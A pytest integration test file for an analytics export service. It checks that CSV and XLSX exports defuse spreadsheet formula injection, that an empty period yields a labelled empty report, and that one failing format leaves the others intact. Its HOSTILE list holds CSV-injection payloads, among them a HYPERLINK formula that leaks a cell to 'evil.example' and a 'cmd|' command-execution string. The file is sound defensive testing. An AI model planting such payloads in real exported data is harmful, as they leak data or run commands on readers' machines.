"""Exports a reader can open safely and always gets: names chosen by other people never become
spreadsheet formulas (OWASP CSV injection), an empty period gives a clearly labelled empty
report, and one format that fails never takes the others down."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from canopy_analytics.exports.renderers import RENDERERS, Renderer
from canopy_analytics.exports.settings import ExportSettings
from tests.analytics.exports.conftest import (
    Seeded,
    build_app,
    download,
    environment,
    run_export,
    seed,
    stop,
)

pytestmark = pytest.mark.integration

# A cell starting with one of these is read as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = (  # names chosen by other people, each starting with one of them
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-1-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=2+2",
)


@pytest.fixture
def hostile(network, lenient_ingest) -> Seeded:
    """The seeded network, its region, districts, schools, template and indicators renamed by
    people who would like a formula to run in the reader's spreadsheet."""
    seeded, messages = seed(network)
    districts: list[str] = []
    schools: dict[str, int] = {}  # per district: every hostile name in each export
    for envelope in messages:
        payload = envelope.payload
        if envelope.type == "region.created":
            payload["name"] = HOSTILE[3]
        elif envelope.type == "district.created":
            districts.append(payload["district_id"])
            payload["name"] = HOSTILE[(len(districts) - 1) % len(HOSTILE)]
        elif envelope.type == "school.created":
            count = schools[payload["district_id"]] = schools.get(payload["district_id"], -1) + 1
            payload["name"] = HOSTILE[count % len(HOSTILE)]
        elif envelope.type == "template.version_published":
            envelope.payload["title"] = HOSTILE[0]
            for i, indicator in enumerate(envelope.payload["sections"][0]["indicators"]):
                indicator["text"] = HOSTILE[4 + i]
    lenient_ingest(messages)
    return seeded


def xlsx_cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def csv_cells(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = [n for n in archive.namelist() if n.endswith(".csv")]
        tables = [csv.reader(io.StringIO(archive.read(n).decode(), newline="")) for n in names]
        return [cell for table in tables for row in table for cell in row]


def assert_no_formula_and_names_readable(files: dict[str, bytes]) -> None:
    cells = xlsx_cells(files["xlsx"])
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if t.startswith(FORMULA_STARTS)] == []
    shown_in_xlsx = {t.removeprefix("'") for t in texts}
    csv_texts = csv_cells(files["csv"])
    assert [t for t in csv_texts if t.startswith(FORMULA_STARTS)] == []
    shown_in_csv = {t.removeprefix("'") for t in csv_texts}
    for name in HOSTILE:  # still there to read, as text (XML keeps \r as \n)
        assert name in shown_in_csv, name
        assert name.replace("\r", "\n") in shown_in_xlsx, name


def test_hostile_names_are_text_in_a_region_export(app, hostile, as_region) -> None:
    headers = as_region(hostile.region)
    job = run_export(app, headers, {"formats": ["csv", "xlsx"]})
    assert job["status"] == "succeeded", job
    files = {fmt: download(app, headers, job, fmt) for fmt in ("csv", "xlsx")}
    assert_no_formula_and_names_readable(files)


def test_hostile_names_are_text_in_a_district_export(app, hostile, as_district) -> None:
    headers = as_district(hostile.districts[0])  # its four schools are named in its export
    job = run_export(app, headers, {"formats": ["csv", "xlsx"]})
    assert job["status"] == "succeeded", job
    files = {fmt: download(app, headers, job, fmt) for fmt in ("csv", "xlsx")}
    assert_no_formula_and_names_readable(files)


def test_an_empty_period_is_a_labelled_empty_report_in_every_format(app, seeded, as_region) -> None:
    headers = as_region(seeded.region)
    job = run_export(app, headers, {"period": "month:2026-05"})  # before the first walkthrough
    assert job["status"] == "succeeded", job
    assert job["failed_formats"] == [] and job["error"] is None
    assert sorted(f["format"] for f in job["files"]) == sorted(RENDERERS)
    pdf = download(app, headers, job, "pdf")
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    assert "No walkthroughs in this period" in text
    assert "month:2026-05" in text
    with zipfile.ZipFile(io.BytesIO(download(app, headers, job, "csv"))) as archive:
        assert "No walkthroughs in this period" in archive.read("README.txt").decode()
    cover = load_workbook(io.BytesIO(download(app, headers, job, "xlsx"))).worksheets[0]
    shown = [c for row in cover.iter_rows(values_only=True) for c in row if c]
    assert any("No walkthroughs in this period" in str(c) for c in shown)


def test_a_format_that_fails_keeps_the_others_and_says_why(
    app, seeded, as_region, monkeypatch
) -> None:
    def broken(*_: Any) -> bytes:
        raise RuntimeError("the chart library gave up")

    monkeypatch.setitem(RENDERERS, "pdf", Renderer(".pdf", "application/pdf", broken))
    headers = as_region(seeded.region)
    job = run_export(app, headers, {"formats": ["csv", "pdf", "xlsx"]})
    assert job["status"] == "succeeded", job
    assert sorted(f["format"] for f in job["files"]) == ["csv", "xlsx"]
    assert job["failed_formats"] == [
        {"format": "pdf", "error": "RuntimeError: the chart library gave up"}
    ]
    assert "pdf" in job["error"] and "the chart library gave up" in job["error"]
    assert download(app, headers, job, "csv")[:2] == b"PK"
    missing = app.test_client().get(
        f"/v1/exports/{job['export_id']}/download?format=pdf", headers=headers
    )
    assert missing.status_code == 422 and missing.json["error"]["field"] == "format"


def test_an_export_whose_every_format_fails_is_failed_with_each_reason(
    app, seeded, as_region, monkeypatch
) -> None:
    def broken(*_: Any) -> bytes:
        raise ValueError("no room on the page")

    monkeypatch.setitem(RENDERERS, "pdf", Renderer(".pdf", "application/pdf", broken))
    job = run_export(app, as_region(seeded.region), {"formats": ["pdf"]})
    assert job["status"] == "failed" and job["files"] == []
    assert job["failed_formats"] == [{"format": "pdf", "error": "ValueError: no room on the page"}]
    assert "no room on the page" in job["error"]


def test_a_newcomers_default_export_directory_serves_its_downloads(
    tmp_path, clickhouse_dsn, signer, store, seeded, as_region, monkeypatch
) -> None:
    """`make run` sets no export directory: the default `var/exports` is relative to where the
    process started, and downloads are served from exactly there."""
    monkeypatch.chdir(tmp_path)
    environ = environment(tmp_path, clickhouse_dsn, "127.0.0.1:9")
    assert not {"ANALYTICS_EXPORT_DIR", "CANOPY_VAR_DIR"} & set(environ)
    settings = ExportSettings.from_env({**environ, "ANALYTICS_EXPORT_SCHEDULER_SECONDS": "3600"})
    assert settings.directory == tmp_path.resolve() / "var" / "exports"
    app = build_app(environ, tmp_path, signer, store, settings)
    try:
        headers = as_region(seeded.region)
        job = run_export(app, headers, {"formats": ["pdf", "csv"]})
        assert job["status"] == "succeeded", job
        assert download(app, headers, job, "pdf").startswith(b"%PDF")
        assert (settings.directory / job["export_id"]).is_dir()
    finally:
        stop(app)
